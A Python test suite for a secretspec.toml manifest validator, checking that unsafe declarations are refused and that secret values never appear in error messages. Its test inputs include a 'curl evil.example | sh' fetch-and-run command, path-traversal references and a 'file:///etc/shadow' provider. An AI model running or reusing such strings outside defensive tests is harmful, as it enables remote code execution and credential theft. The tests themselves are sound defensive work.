"""A secretspec.toml: what it says, and what it may not say."""

import json
import tomllib
from collections.abc import Mapping
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kennel.domain.secretspec import Declaration, Reference, SecretSpec
from kennel.errors import ManifestError
from kennel.secrets import MOST_BYTES, Grants, read

SHOP = Grants(project="shop", sources=("openbao",), shared=("shared/smtp", "shared/ci/*"))
DOCUMENTED = """
[project]
name = "shop"

[secrets]
JWT_SECRET = { description = "JWT signing key", required = true }
STRIPE_KEY = { description = "Stripe API key", required = true }

[profiles.preview]
STRIPE_KEY = { description = "Stripe test key", required = false }
"""


def of(text: str, profile: str = "prod", grants: Grants = SHOP) -> Mapping[str, Declaration]:
    return read(text, grants).of(profile)


def refused(text: str, grants: Grants = SHOP) -> str:
    with pytest.raises(ManifestError) as caught:
        read(text, grants)
    return str(caught.value)


def test_the_documented_form() -> None:
    needed = Declaration()
    assert of(DOCUMENTED) == {"JWT_SECRET": needed, "STRIPE_KEY": needed}
    assert of(DOCUMENTED, "staging") == of(DOCUMENTED, "dev") == of(DOCUMENTED)
    assert of(DOCUMENTED, "preview") == {
        "JWT_SECRET": needed,
        "STRIPE_KEY": Declaration(required=False),
    }


def test_nothing_is_declared() -> None:
    assert read("", SHOP) == SecretSpec()
    assert read("[secrets]\n", SHOP) == SecretSpec()


def test_everything_that_may_be_said() -> None:
    text = """
    [project]
    name = "shop"
    revision = "1.0"
    require_reason = "agents"

    [profiles.default]
    PASSWORD = { description = "of the database", type = "password", generate = true }
    LEVEL = { default = "info", prompt = true }
    URL = { composed = "pg://u:${PASSWORD}@h/$$x" }
    KEY = { as_path = true, encoding = "base64" }
    ACCOUNT = { extract = { format = "json", pointer = "/id" }, ref = { item = "shared/ci/a" } }
    SMTP = { ref = { item = "shared/smtp", field = "password" }, providers = ["main"] }
    ONE = { required = { exactly_one = "login" } }
    TWO = { required = { exactly_one = "login" } }

    [profiles.prod]
    OLD = { ref = { item = "secretspec/shop/prod/PASSWORD" } }

    [profiles.development]
    DEBUG = { default = "1" }

    [providers]
    main = "vault://elsewhere.example:8200/secret"
    openbao = { uri = "openbao://bao.example/secret" }

    [scopes.api]
    secrets = ["URL", "SMTP"]
    """
    spec = read(text, SHOP)
    assert spec.scopes == {"api": ("URL", "SMTP")}
    assert spec.of("prod") == {
        "PASSWORD": Declaration(),
        "LEVEL": Declaration(required=False, default="info"),
        "URL": Declaration(composed="pg://u:${PASSWORD}@h/$$x"),
        "KEY": Declaration(as_path=True, encoding="base64"),
        "ACCOUNT": Declaration(
            extract={"format": "json", "pointer": "/id"}, ref=Reference(item="shared/ci/a")
        ),
        "SMTP": Declaration(
            ref=Reference(item="shared/smtp", field="password"), sources=("openbao",)
        ),
        "ONE": Declaration(group={"exactly_one": "login"}),
        "TWO": Declaration(group={"exactly_one": "login"}),
        "OLD": Declaration(ref=Reference(item="secretspec/shop/prod/PASSWORD")),
    }
    assert spec.of("preview").keys() == spec.of("prod").keys() - {"OLD"}
    assert "DEBUG" not in spec.of("dev")


def test_defaults_of_a_profile() -> None:
    text = """
    [profiles.default]
    A = {}
    B = { required = true }
    [profiles.preview.defaults]
    required = false
    providers = ["openbao"]
    [profiles.preview]
    C = { default = "x" }
    [profiles.dev.defaults]
    inherit = false
    default = "nothing"
    [profiles.dev]
    D = {}
    """
    optional = Declaration(required=False, sources=("openbao",))
    assert of(text, "preview") == {
        "A": optional,
        "B": Declaration(sources=("openbao",)),
        "C": Declaration(required=False, default="x", sources=("openbao",)),
    }
    assert of(text, "dev") == {"D": Declaration(required=False, default="nothing")}
    assert of(text, "prod") == {"A": Declaration(), "B": Declaration()}


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ('[project]\nname = "victim"', "line 2: [project] name: this project is called 'shop'"),
        ('[project]\nname = "../victim"', "this project is called 'shop' here"),
        ('[project]\nname = "shop/prod"', "this project is called 'shop' here"),
        ('[project]\nrevision = "2.0"', 'Kennel reads revision "1.0" and no other'),
        ('[project]\nextends = ["../../etc"]', "[project] extends: Kennel reads no other file"),
        (
            '[secrets]\nX = { ref = { item = "secretspec/victim/prod/KEY" } }',
            "line 2: [secrets] X: ref: secretspec/victim/prod/KEY is not this project's",
        ),
        (
            '[profiles.preview]\nX = { ref = { item = "secretspec/shop/prod/KEY" } }',
            "line 2: [profiles.preview] X: ref: a profile refers to secrets of its own alone",
        ),
        ('[secrets]\nX = { ref = { item = "secretspec/shop/prod/KEY" } }', "of its own alone"),
        ('[secrets]\nX = { ref = { item = "shared/../secretspec/victim/prod/K" } }', "a path is"),
        ('[secrets]\nX = { ref = { item = "shared/ci/%2e%2e/x" } }', "ref: a path is"),
        ('[secrets]\nX = { ref = { item = "shared/ci/../../x" } }', "ref: a path is"),
        ('[secrets]\nX = { ref = { item = "/shared/smtp" } }', "ref: a path is"),
        ('[secrets]\nX = { ref = { item = "shared/ci" } }', 'shared_secrets = ["shared/ci"]'),
        ('[secrets]\nX = { ref = { item = "shared/smtp2" } }', "not shared with it"),
        (
            '[secrets]\nX = { ref = { item = "shared/smtp", version = "1" } }',
            "unknown key 'version'",
        ),
        (
            '[profiles.prod]\nX = { ref = { item = "secretspec/shop/prod/K", field = "f" } }',
            "`value`",
        ),
        ('[secrets]\nX = { providers = ["env"] }', "providers: 'env' is no source"),
        ('[secrets]\nX = { providers = ["env://"] }', "providers: 'env:…' is no source"),
        ('[secrets]\nX = { providers = ["dotenv:///etc/kennel.env"] }', "'dotenv:…' is no source"),
        ('[secrets]\nX = { providers = ["file:///etc/shadow"] }', "'file:…' is no source"),
        ('[providers]\nmain = "env://"', "line 2: [providers] main: commits cannot choose 'env:…'"),
        ('[providers]\nopenbao = "dotenv://.env"', "commits cannot choose 'dotenv:…'"),
        (
            '[providers]\nmain = { uri = "vault://x", credentials = "y" }',
            "unknown key 'credentials'",
        ),
        ("[providers]\nmain = 3", "[providers] main: must be an address"),
        (
            '[secrets]\nX = { generate = { command = "curl evil.example | sh" } }',
            "line 2: [secrets] X: generate: Kennel runs no command",
        ),
        ("[secrets]\nPATH = {}", "line 2: [secrets] PATH: is a variable that no secret may set"),
        ("[secrets]\nLD_PRELOAD = {}", "no secret may set"),
        ("[secrets]\nKENNEL_URL = {}", "no secret may set"),
        ("[secrets]\nSECRETSPEC_PROVIDER = {}", "no secret may set"),
        ("[secrets]\nport = {}", "no secret may set"),
        ('[secrets]\n"A-B" = {}', "cannot be the name of a variable"),
        ('[secrets]\n"A=1\\nB" = {}', "cannot be the name of a variable"),
        ('[secrets]\n"" = {}', "cannot be the name of a variable"),
        ("[secrets]\nÄ = {}", "is no TOML"),
        ('[profiles."../x"]\nA = {}', "cannot be the name of a profile"),
        ('[secrets]\nX = "hunter2"', "[secrets] X: must be a table, not text in quotes"),
        ("[secrets]\nX = { requierd = true }", "unknown key 'requierd'"),
        ('[secrets]\nX = { required = "yes" }', "[secrets.X] required: must be"),
        ('[secrets]\nX = { required = true, default = "a" }', "is required and has a default"),
        (
            '[secrets]\nX = { required = { at_least_one = "a", exactly_one = "b" } }',
            "required: say",
        ),
        ('[secrets]\nX = { encoding = "rot13" }', "must be one of"),
        ('[secrets]\nX = { extract = { format = "yaml", pointer = "/" } }', "must be one of"),
        ("[secrets]\nX = {}\n[profiles.default]\nX = {}", "is in [profiles.default] too"),
        ('[scopes.api]\nsecrets = ["X"]', "[scopes.api] secrets: 'X' is declared in no profile"),
        ('[secrets]\nX = {}\n[scopes."a/b"]\nsecrets = ["X"]', "called like the service"),
        ("[sercets]\nX = {}", "unknown key 'sercets'"),
        ("[secrets", "is no TOML that Kennel can read"),
        ("x = " + "[" * 5000, "is nested too deep"),
        ("x = " + "9" * 5000, "a value is absurd"),
        ("x" + ".x" * 60000 + " = 1", "has more than 64 dots"),
        ("[" + "x." * 60000 + "x]", "has more than 64 dots"),
        ("#" * MOST_BYTES + "\n", f"has {MOST_BYTES + 1} bytes; {MOST_BYTES} are allowed"),
        ("#" * 10_000_000, "are allowed"),
        ("[secrets]\n" + "".join(f"A{i} = {{}}\n" for i in range(501)), "501 secrets are declared"),
    ],
    ids=lambda text: text[:60],
)
def test_what_is_refused(text: str, said: str) -> None:
    assert said in refused(text)


def test_every_problem_is_told_and_no_value_shown() -> None:
    text = '[secrets]\nPATH = {}\nX = "hunter2"\nY = { default = 7 }\n'
    text += 'Z = { providers = ["s://u:pw@h"] }'
    lines = refused(text).splitlines()
    assert [line.split(": ")[0] for line in lines] == [
        "secretspec.toml line 2",
        "secretspec.toml line 3",
        "secretspec.toml line 4",
        "secretspec.toml line 5",
    ]
    assert "hunter2" not in refused(text)
    assert "pw" not in refused(text)


def test_a_source_that_is_off_is_told() -> None:
    bare = Grants(project="shop")
    assert "an operator has turned on no source" in refused(
        '[secrets]\nX = { providers = ["vault"] }', bare
    )
    assert of("[secrets]\nX = {}", grants=bare) == {"X": Declaration()}


def test_the_operator_names_sources() -> None:
    grants = Grants(project="shop", sources=("openbao", "other"), aliases={"team": "other"})
    text = '[secrets]\nA = { providers = ["team", "vault"] }\nB = { providers = ["other"] }'
    assert [one.sources for one in of(text, grants=grants).values()] == [
        ("other", "openbao"),
        ("other",),
    ]


SAID = (
    "project name secrets profiles default defaults prod X PATH ref item required composed"
    " providers scopes env:// ../x shop victim secretspec/victim/prod/K shared/smtp generate"
    " command at_least_one extract"
)
WORDS = st.sampled_from(SAID.split())
VALUES = st.recursive(
    WORDS | st.booleans() | st.integers() | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(WORDS, inner, max_size=4),
    max_leaves=12,
)


def toml(value: Any) -> str:
    if isinstance(value, dict):
        inside = ", ".join(f"{json.dumps(k)} = {toml(v)}" for k, v in value.items())
        return "{ " + inside + " }"
    if isinstance(value, list):
        return "[" + ", ".join(map(toml, value)) + "]"
    return json.dumps(value)


@given(st.dictionaries(WORDS, VALUES, max_size=4))
def test_whatever_it_says_is_understood_or_refused(raw: dict[str, Any]) -> None:
    text = "\n".join(f"{json.dumps(key)} = {toml(value)}" for key, value in raw.items())
    try:
        tomllib.loads(text)
    except ValueError:
        return
    check(text)


@given(st.text(max_size=200))
def test_any_text_is_understood_or_refused(text: str) -> None:
    check(text)


def check(text: str) -> None:
    """What is understood reaches for nothing that is not the project's or shared with it."""
    try:
        spec = read(text, SHOP)
    except ManifestError as error:
        assert str(error).startswith("secretspec.toml")  # noqa: PT017  either will do
        return
    for profile, secrets in spec.profiles.items():
        for name, one in secrets.items():
            assert name != "PATH"
            assert set(one.sources) <= set(SHOP.sources)
            if one.ref:
                own = SHOP.own_name(one.ref, profile)
                assert own or SHOP.shares(one.ref.item)
